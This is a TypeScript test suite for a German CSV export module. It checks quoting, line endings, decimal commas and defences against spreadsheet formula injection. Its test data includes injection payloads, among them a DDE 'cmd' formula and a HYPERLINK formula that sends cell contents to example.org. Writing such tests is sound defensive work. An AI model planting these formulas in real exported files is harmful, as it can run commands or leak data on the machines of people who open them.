import fc from 'fast-check';
import { expect, test } from 'vitest';
import { CSV_BOM, type CsvZelle, csvDatei, csvZeile } from './csv.ts';

/** Reads a CSV text back as RFC 4180 says, with semicolons. */
function readCsv(text: string): string[][] {
  const zeilen: string[][] = [];
  let zeile: string[] = [];
  for (const [, quoted, bare, ende] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^";\r\n]*))(;|\r\n)/g)) {
    zeile.push(quoted?.replaceAll('""', '"') ?? bare ?? '');
    if (ende === ';') continue;
    zeilen.push(zeile);
    zeile = [];
  }
  return zeilen;
}

test('a file starts with the mark that Excel needs, then the head; lines end with CR LF', () => {
  const text = csvDatei(['Nummer', 'Betrag'], [['R-1', '1.234,50']]);
  expect(text).toBe('\uFEFFNummer;Betrag\r\nR-1;1.234,50\r\n');
});

test('semicolons, quotes and line breaks stay inside their cell', () => {
  expect(csvZeile(['a;b', 'sagt "ja"', 'zwei\r\nZeilen', null, ''])).toBe(
    '"a;b";"sagt ""ja""";"zwei\r\nZeilen";;\r\n',
  );
});

test('numbers are written with a decimal comma, negative ones as numbers', () => {
  expect(csvZeile([12.5, -3, 0])).toBe('12,5;-3;0\r\n');
  expect(() => csvZeile([Number.NaN])).toThrow(RangeError);
});

test.each(['-12,50', '-1.234,50', '-0,01', '-5', '12,50'])('the amount %s stays a number', (betrag) => {
  expect(csvZeile([betrag])).toBe(`${betrag}\r\n`);
});

test.each([
  '=1+1',
  '+49 30 1234',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '＝1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.org?x="&A1)',
  '-1,5e3',
  '-1;=2',
  '-1\n=2',
  '--1',
])('%j is no formula any more', (text) => {
  expect(readCsv(csvZeile([text]))).toEqual([[`'${text}`]]);
});

test('whatever the cells hold, they are read back, and none starts a formula', () => {
  const boese = fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', ';', ' '), fc.string())
    .map((t) => t.join(''));
  const zelle = fc.oneof(fc.string({ unit: 'grapheme' }), boese, fc.integer(), fc.constant(null));
  const zeilen = fc.array(fc.array(zelle, { minLength: 1, maxLength: 5 }), { maxLength: 5 });
  fc.assert(
    fc.property(zeilen, (geschrieben: CsvZelle[][]) => {
      const text = csvDatei(['a'], geschrieben);
      expect(text.startsWith(CSV_BOM)).toBe(true);
      const [, ...gelesen] = readCsv(text.slice(1));
      expect(gelesen.map((zeile) => zeile.length)).toEqual(geschrieben.map((zeile) => zeile.length));
      for (const [z, zeile] of geschrieben.entries()) {
        for (const [s, wert] of zeile.entries()) {
          const cell = gelesen[z]?.[s] ?? '?';
          expect([String(wert ?? ''), `'${wert}`]).toContain(cell);
          expect(cell).not.toMatch(/^[=+@\t\r\n]|^-(?!\d+(\.\d{3})*(,\d+)?$)/);
        }
      }
    }),
  );
});
